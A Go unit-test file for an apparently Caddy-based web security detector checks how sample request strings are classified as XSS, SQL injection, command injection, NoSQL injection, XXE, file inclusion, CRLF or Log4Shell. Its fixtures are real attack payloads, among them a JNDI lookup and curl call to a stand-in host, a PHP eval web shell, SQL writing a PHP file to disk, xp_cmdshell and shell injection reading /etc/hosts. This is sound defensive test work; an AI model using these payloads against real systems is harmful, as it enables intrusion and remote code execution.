package detect_test

import (
	"net/url"
	"testing"

	"github.com/gatehouse-dev/caddy-gatehouse/securitylog/detect"
)

// TestClassesTogether holds which classes a text is told of when it could be several: all that it is, and none that it only resembles.
func TestClassesTogether(t *testing.T) {
	d := detect.New(detect.Options{})
	for text, want := range map[string]detect.Set{
		";echo '<script>go()</script>'":                                   detect.Of(detect.XSS, detect.CmdI),
		"<!--#exec cmd=\"ls -l\"--><script>go()</script>":                 detect.Of(detect.XSS, detect.CmdI),
		"<img src=x onerror=go()><?php eval($_GET[c]); ?>":                detect.Of(detect.XSS, detect.CmdI),
		"' union select '<?php phpinfo();' into outfile '/srv/a.php' -- ": detect.Of(detect.SQLi, detect.CmdI),
		"|| 3==3":                                            detect.Of(detect.SQLi, detect.NoSQLi),
		"';return 'q'=='q' && ''=='":                         detect.Of(detect.SQLi, detect.NoSQLi),
		"<xsl:import href='javascript:go()'/>":               detect.Of(detect.XXE, detect.XSS, detect.JS),
		"<script>eval('go()')</script>":                      detect.Of(detect.XSS),
		"'; exec master..xp_cmdshell 'ping h'--":             detect.Of(detect.SQLi),
		"${${::-j}ndi:ldap://h.example/a}":                   detect.Of(detect.Log4Shell),
		"jar:http://h.example/a.jar!/b":                      detect.Of(detect.LFI, detect.RFI),
		"{ $ne: 1 }":                                         detect.Of(detect.NoSQLi),
		"';if 1=1 shutdown-- -a":                             detect.Of(detect.SQLi),
		"curl h || `ping -c 2 h` #":                          detect.Of(detect.CmdI),
		"'||`curl http://h.example`#":                        detect.Of(detect.SQLi, detect.CmdI),
		"\r\n\r\n<script>go()</script>":                      detect.Of(detect.CRLF, detect.XSS),
		"this is my page of it\n\n<script src=//h></script>": detect.Of(detect.XSS),
		"<xml src='a' id=b></xml>":                           detect.Of(detect.XSS, detect.XXE),
		"' or 'q'='q":                                        detect.Of(detect.SQLi),
	} {
		if found := d.Target("/s?q=" + url.QueryEscape(text)); found.Classes() != want {
			t.Errorf("%q: found %v", text, found)
		}
	}
}

// TestLaterValuesAreJudged holds that what a place is known for hides nothing else there, and nothing of the same kind elsewhere.
func TestLaterValuesAreJudged(t *testing.T) {
	d := detect.New(detect.Options{})
	const sql, markup, shell = "x' or 3=3--", "<script>go()</script>", "x;cat /etc/hosts"
	found := d.Body("application/json", []byte(`["`+sql+`","`+sql+`","`+markup+`","`+shell+`"]`))
	if want := detect.Of(detect.SQLi, detect.XSS, detect.CmdI); found.Classes() != want {
		t.Errorf("found %v", found)
	}
	found = d.Body("application/json", []byte(`{"a":"`+sql+`","b":"`+sql+`"}`))
	if len(found) != 2 || found[0].Name != "a" || found[1].Name != "b" {
		t.Errorf("found %v", found)
	}
	// A command that SQL explains is none, whether the place is known for SQL or not; one beside it is.
	found = d.Target("/s?a=" + url.QueryEscape(sql) + "&a=" + url.QueryEscape("x' && ping -c 3 h"))
	if want := detect.Of(detect.SQLi, detect.CmdI); found.Classes() != want {
		t.Errorf("found %v", found)
	}
}
